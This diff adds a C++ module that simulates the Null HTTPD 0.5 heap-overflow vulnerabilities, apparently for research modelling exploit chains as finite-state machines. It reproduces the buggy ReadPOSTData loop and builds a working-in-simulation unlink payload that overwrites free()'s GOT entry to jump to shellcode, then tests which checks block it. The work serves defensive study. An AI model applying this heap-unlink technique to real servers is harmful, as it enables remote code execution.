@@ -1,0 +1,398 @@
+#include "apps/nullhttpd.h"
+
+#include <cstring>
+
+#include "libcsim/io.h"
+#include "memsim/heap.h"
+#include "netsim/http.h"
+
+namespace dfsm::apps {
+
+using core::Object;
+using core::Pfsm;
+using core::PfsmType;
+using core::Predicate;
+using memsim::Addr;
+using memsim::ChunkLayout;
+using memsim::HeapError;
+using memsim::MemoryFault;
+
+NullHttpd::NullHttpd(NullHttpdChecks checks)
+    : checks_(checks),
+      proc_(SandboxOptions{/*stack_canaries=*/false,
+                           /*heap_safe_unlink=*/checks.heap_safe_unlink}) {
+  proc_.register_got_function("free");
+  proc_.register_got_function("calloc");
+  proc_.register_got_function("recv");
+}
+
+namespace {
+
+/// The size calloc is asked for, with the original's C arithmetic:
+/// contentLen+1024 computed as int, then converted to size_t (so very
+/// negative contentLen becomes a huge request that fails).
+std::size_t calloc_request(std::int32_t content_len) {
+  const std::int32_t want = content_len + 1024;  // may be negative
+  return static_cast<std::size_t>(static_cast<std::int64_t>(want));
+}
+
+}  // namespace
+
+NullHttpdResult NullHttpd::handle_post(std::int32_t content_len,
+                                       const std::string& body) {
+  NullHttpdResult r;
+  r.content_len = content_len;
+
+  netsim::ByteStream sock;
+  sock.send(body);
+  sock.close_write();
+
+  auto& heap = proc_.heap();
+  auto& mem = proc_.mem();
+  r.events.push_back("accept");
+
+  // Per-connection allocation (stays live across ReadPOSTData, so the
+  // chunk after PostData is the free top — "chunk B" of Figure 4).
+  Addr conn = 0;
+  try {
+    conn = heap.malloc(512);
+    r.events.push_back("malloc");
+  } catch (const HeapError& e) {
+    r.crashed = true;
+    r.detail = e.what();
+    return r;
+  }
+
+  // pFSM1: the v0.5.1 fix — "imposing the appropriate check to block a
+  // negative contentLen value before calling the function ReadPOSTData".
+  if (checks_.content_len_nonneg && content_len < 0) {
+    r.rejected = true;
+    r.rejected_by = "pFSM1";
+    r.detail = "negative Content-Length rejected (v0.5.1 check)";
+    heap.free(conn);
+    return r;
+  }
+
+  // --- ReadPOSTData (Figure 4b), bug-for-bug. ---
+  Addr postdata = 0;
+  try {
+    postdata = heap.calloc(calloc_request(content_len), 1);  // line 1
+    r.events.push_back("calloc");
+  } catch (const HeapError& e) {
+    r.crashed = true;
+    r.detail = std::string("calloc failed: ") + e.what();
+    heap.free(conn);
+    return r;
+  }
+  r.postdata_usable = heap.usable_size(postdata);
+
+  Addr p = postdata;  // line 2: pPostData = PostData
+  std::int64_t x = 0;
+  int rc = 0;
+  do {
+    std::size_t cap = 1024;
+    if (checks_.bounded_read_loop) {
+      // pFSM2 as implemented by the fix: never read past the buffer
+      // (boundary-checked read) and use '&&' in the loop condition.
+      const auto used = static_cast<std::size_t>(x);
+      const std::size_t remaining =
+          r.postdata_usable > used ? r.postdata_usable - used : 0;
+      cap = std::min<std::size_t>(1024, remaining);
+      if (cap == 0) break;  // buffer full
+    }
+    try {
+      rc = libcsim::c_recv(mem, sock, p, cap);  // line 4
+      r.events.push_back("recv");
+    } catch (const MemoryFault& e) {
+      r.crashed = true;
+      r.detail = std::string("recv write faulted: ") + e.what();
+      return r;
+    }
+    if (rc == -1) {  // lines 5-8
+      r.detail = "socket error; connection closed";
+      return r;
+    }
+    if (rc == 0) break;  // orderly EOF (the real server would block here)
+    p += static_cast<Addr>(rc);  // line 9
+    x += rc;                     // line 10
+  } while (checks_.bounded_read_loop
+               ? (rc == 1024 && x < content_len)    // the '&&' fix
+               : (rc == 1024 || x < content_len));  // line 11: the '||' bug
+
+  r.bytes_read = static_cast<std::size_t>(x);
+  r.heap_overflowed = r.bytes_read > r.postdata_usable;
+
+  // --- Request processed; release buffers. Every free goes through the
+  //     GOT, as library calls do. ---
+  auto call_free = [&](Addr ptr) -> bool {
+    if (checks_.got_free_unchanged && !proc_.got().unchanged("free")) {
+      r.rejected = true;
+      r.rejected_by = "pFSM4";
+      r.detail = "GOT entry of free() changed since load — call refused";
+      return false;
+    }
+    const auto landing = proc_.cpu().call_through_got(proc_.got(), "free");
+    proc_.cpu().count_landing(landing);
+    if (landing.kind == memsim::LandingKind::kMcode) {
+      r.mcode_executed = true;
+      // The payload's own behaviour, as a trace-level observer sees it.
+      r.events.push_back("mcode:execve");
+      r.events.push_back("mcode:dup2");
+      r.detail = "free() call transferred control to Mcode via corrupted addr_free";
+      return false;
+    }
+    if (landing.kind == memsim::LandingKind::kWild) {
+      r.crashed = true;
+      r.detail = "wild jump through corrupted addr_free";
+      return false;
+    }
+    try {
+      heap.free(ptr);
+      r.events.push_back("free");
+    } catch (const HeapError& e) {
+      const bool safe_unlink_hit =
+          std::string(e.what()).find("safe-unlink") != std::string::npos;
+      if (checks_.heap_safe_unlink && safe_unlink_hit) {
+        r.rejected = true;
+        r.rejected_by = "pFSM3";
+      } else {
+        r.crashed = true;
+      }
+      r.detail = e.what();
+      return false;
+    } catch (const MemoryFault& e) {
+      r.crashed = true;
+      r.detail = std::string("free() faulted on corrupt metadata: ") + e.what();
+      return false;
+    }
+    return true;
+  };
+
+  // Operation 2: free(PostData) — the unlink of corrupted chunk B fires
+  // here. Operation 3: the next free() goes through the (possibly
+  // corrupted) GOT.
+  if (!call_free(postdata)) return r;
+  if (!call_free(conn)) return r;
+
+  r.events.push_back("respond");
+  r.served = true;
+  if (r.detail.empty()) r.detail = "request served";
+  return r;
+}
+
+NullHttpdResult NullHttpd::handle_raw(const std::string& raw_request) {
+  std::size_t consumed = 0;
+  const auto head = netsim::parse_head(raw_request, &consumed);
+  if (!head) {
+    NullHttpdResult r;
+    r.rejected = true;
+    r.rejected_by = "parser";
+    r.detail = "400 Bad Request: malformed head";
+    return r;
+  }
+  if (head->method != "POST") {
+    NullHttpdResult r;
+    r.rejected = true;
+    r.rejected_by = "parser";
+    r.detail = "only POST reaches ReadPOSTData";
+    return r;
+  }
+  // Content-Length parsed with the original's atoi: "4294958848" wraps.
+  const std::int32_t cl = head->content_length().value_or(0);
+  return handle_post(cl, raw_request.substr(consumed));
+}
+
+std::string NullHttpd::build_exploit_request(const ScoutInfo& info,
+                                             std::int32_t content_len) {
+  netsim::HttpRequest req;
+  req.method = "POST";
+  req.path = "/cgi-bin/form";
+  req.headers["Content-Length"] = std::to_string(content_len);
+  req.headers["Host"] = "victim";
+  const auto body = build_overflow_body(info);
+  return netsim::serialize(req, std::string(body.begin(), body.end()));
+}
+
+NullHttpd::ScoutInfo NullHttpd::scout(std::int32_t content_len,
+                                      NullHttpdChecks checks) {
+  NullHttpd twin{checks};
+  auto& heap = twin.proc_.heap();
+  auto& mem = twin.proc_.mem();
+  // Mirror handle_post's allocation sequence exactly.
+  (void)heap.malloc(512);                               // conn
+  const Addr postdata = heap.calloc(calloc_request(content_len), 1);
+
+  ScoutInfo info;
+  info.postdata_user = postdata;
+  info.postdata_usable = heap.usable_size(postdata);
+  info.following_chunk = heap.following_free_chunk(postdata);
+  if (info.following_chunk != 0) {
+    info.b_prev_size = mem.read64(info.following_chunk);
+    info.b_size_field = mem.read64(info.following_chunk + 8);
+  }
+  info.got_free_slot = twin.proc_.got().slot_address("free");
+  info.mcode = twin.proc_.mcode();
+  return info;
+}
+
+std::vector<std::uint8_t> NullHttpd::build_overflow_body(const ScoutInfo& info) {
+  std::vector<std::uint8_t> body(info.postdata_usable, 'A');
+  auto push64 = [&body](std::uint64_t v) {
+    for (int i = 0; i < 8; ++i) body.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
+  };
+  // Preserve B's header so the allocator's size walk still works, then
+  // plant the poisoned links (paper footnote 7):
+  //   B->fd = &addr_free - (offset of field bk);  B->bk = Mcode
+  push64(info.b_prev_size);
+  push64(info.b_size_field);
+  push64(info.got_free_slot - ChunkLayout::kBkOffset);
+  push64(info.mcode);
+  return body;
+}
+
+core::FsmModel NullHttpd::figure4_model() {
+  Predicate spec1{"contentLen >= 0", [](const Object& o) {
+                    const auto v = o.attr_int("contentLen");
+                    return v && *v >= 0;
+                  }};
+  Pfsm pfsm1 = Pfsm::unchecked(
+      "pFSM1", PfsmType::kContentAttributeCheck,
+      "get contentLen from the request head",
+      std::move(spec1), "calloc PostData[1024+contentLen]");
+
+  Predicate spec2{"length(input) <= size(PostData)", [](const Object& o) {
+                    const auto len = o.attr_int("input_length");
+                    const auto size = o.attr_int("buffer_size");
+                    return len && size && *len <= *size;
+                  }};
+  Pfsm pfsm2 = Pfsm::unchecked(
+      "pFSM2", PfsmType::kContentAttributeCheck,
+      "read the POST body from the socket into PostData",
+      std::move(spec2), "copy input into PostData");
+
+  Predicate spec3{"free-chunk links (B->fd, B->bk) unchanged",
+                  [](const Object& o) {
+                    return o.attr_bool("links_unchanged").value_or(false);
+                  }};
+  Pfsm pfsm3 = Pfsm::unchecked(
+      "pFSM3", PfsmType::kReferenceConsistencyCheck,
+      "free the buffer PostData (unlink of the following free chunk)",
+      std::move(spec3), "execute B->fd->bk = B->bk and B->bk->fd = B->fd");
+
+  Predicate spec4{"addr_free unchanged since program initialization",
+                  [](const Object& o) {
+                    return o.attr_bool("addr_free_unchanged").value_or(false);
+                  }};
+  Pfsm pfsm4 = Pfsm::unchecked(
+      "pFSM4", PfsmType::kReferenceConsistencyCheck,
+      "execute addr_free when function free is called",
+      std::move(spec4), "call through the GOT entry of free()");
+
+  core::Operation op1{"Read postdata from socket to an allocated buffer PostData",
+                      "contentLen and input (the POST body)"};
+  op1.add(std::move(pfsm1));
+  op1.add(std::move(pfsm2));
+  core::Operation op2{"Allocate and free the buffer PostData",
+                      "free chunk B following PostData"};
+  op2.add(std::move(pfsm3));
+  core::Operation op3{"Manipulate the GOT entry of function free",
+                      "addr_free (function pointer)"};
+  op3.add(std::move(pfsm4));
+
+  core::ExploitChain chain{"NULL HTTPD heap overflow"};
+  chain.add(std::move(op1),
+            core::PropagationGate{"B->fd = &addr_free - offsetof(bk); B->bk = Mcode"});
+  chain.add(std::move(op2),
+            core::PropagationGate{".GOT entry of function free points to Mcode"});
+  chain.add(std::move(op3), core::PropagationGate{"Mcode is executed"});
+
+  return core::FsmModel{"NULL HTTPD Heap Overflow (Figure 4)",
+                        {5774, 6255},
+                        "Heap Overflow",
+                        "Null HTTPD 0.5",
+                        "attacker writes an arbitrary value to an arbitrary "
+                        "location and redirects free() to Mcode",
+                        std::move(chain)};
+}
+
+namespace {
+
+class NullHttpdCaseStudy final : public CaseStudy {
+ public:
+  explicit NullHttpdCaseStudy(bool use_6255_exploit)
+      : use_6255_(use_6255_exploit) {}
+
+  [[nodiscard]] std::string name() const override {
+    return use_6255_ ? "NULL HTTPD #6255 recv-loop heap overflow"
+                     : "NULL HTTPD #5774 negative Content-Length heap overflow";
+  }
+
+  [[nodiscard]] std::vector<CheckSpec> checks() const override {
+    return {
+        {"pFSM1: contentLen >= 0", 0, PfsmType::kContentAttributeCheck},
+        {"pFSM2: length(input) <= size(PostData)", 0,
+         PfsmType::kContentAttributeCheck},
+        {"pFSM3: free-chunk links unchanged", 1,
+         PfsmType::kReferenceConsistencyCheck},
+        {"pFSM4: GOT entry of free unchanged", 2,
+         PfsmType::kReferenceConsistencyCheck},
+    };
+  }
+
+  [[nodiscard]] RunOutcome run_exploit(const std::vector<bool>& enabled) const override {
+    require_mask(*this, enabled);
+    const NullHttpdChecks checks = make_checks(enabled);
+    // #5774 pairs a negative contentLen with a >=1024-byte body; #6255
+    // declares a truthful contentLen of 0 and oversends.
+    const std::int32_t cl = use_6255_ ? 0 : -800;
+    const auto info = NullHttpd::scout(cl, checks);
+    const auto body = NullHttpd::build_overflow_body(info);
+    NullHttpd app{checks};
+    const auto r = app.handle_post(cl, std::string(body.begin(), body.end()));
+    RunOutcome out;
+    out.exploited = r.mcode_executed;
+    out.foiled = r.rejected;
+    out.crashed = r.crashed;
+    out.detail = r.detail;
+    return out;
+  }
+
+  [[nodiscard]] RunOutcome run_benign(const std::vector<bool>& enabled) const override {
+    require_mask(*this, enabled);
+    NullHttpd app{make_checks(enabled)};
+    const std::string body(300, 'b');
+    const auto r = app.handle_post(static_cast<std::int32_t>(body.size()), body);
+    RunOutcome out;
+    out.service_ok = r.served && !r.heap_overflowed && !r.mcode_executed;
+    out.detail = r.detail;
+    return out;
+  }
+
+  [[nodiscard]] core::FsmModel model() const override {
+    return NullHttpd::figure4_model();
+  }
+
+ private:
+  static NullHttpdChecks make_checks(const std::vector<bool>& enabled) {
+    NullHttpdChecks c;
+    c.content_len_nonneg = enabled[0];
+    c.bounded_read_loop = enabled[1];
+    c.heap_safe_unlink = enabled[2];
+    c.got_free_unchanged = enabled[3];
+    return c;
+  }
+
+  bool use_6255_;
+};
+
+}  // namespace
+
+std::unique_ptr<CaseStudy> make_nullhttpd_case_study() {
+  return std::make_unique<NullHttpdCaseStudy>(/*use_6255_exploit=*/false);
+}
+
+std::unique_ptr<CaseStudy> make_nullhttpd_6255_case_study() {
+  return std::make_unique<NullHttpdCaseStudy>(/*use_6255_exploit=*/true);
+}
+
+}  // namespace dfsm::apps
